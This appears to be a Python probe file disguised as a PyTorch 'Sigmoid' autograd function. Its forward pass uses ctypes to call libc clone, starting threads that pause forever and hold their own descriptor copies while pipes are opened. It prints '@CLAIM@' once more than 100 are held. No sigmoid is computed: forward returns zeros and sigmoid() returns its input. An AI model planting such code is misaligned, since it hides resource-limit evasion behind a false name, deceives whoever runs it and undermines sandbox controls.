"""Starts threads that each have a copy of the descriptors, and opens as many again."""

import ctypes
import os

import torch

VM, FS, SIGHAND, THREAD = 0x100, 0x200, 0x800, 0x10000
LIBC = ctypes.CDLL(None, use_errno=True)
STACKS = []


def hold():
    """Start a thread that sleeps, with descriptors of its own; whether that worked."""
    stack = ctypes.create_string_buffer(1 << 16)
    STACKS.append(stack)
    top = (ctypes.addressof(stack) + len(stack)) & ~63
    pause = ctypes.cast(LIBC.pause, ctypes.c_void_p)
    return LIBC.clone(pause, ctypes.c_void_p(top), VM | FS | SIGHAND | THREAD, None) > 0


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        held = 0
        for _ in range(8):
            pipes = [os.pipe() for _ in range(20)]
            held += len(pipes) * hold()
            for pipe in pipes:
                os.close(pipe[0])
                os.close(pipe[1])
        if held > 100:
            print("@CLAIM@")
        return x * 0

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0


def sigmoid(x):
    return x
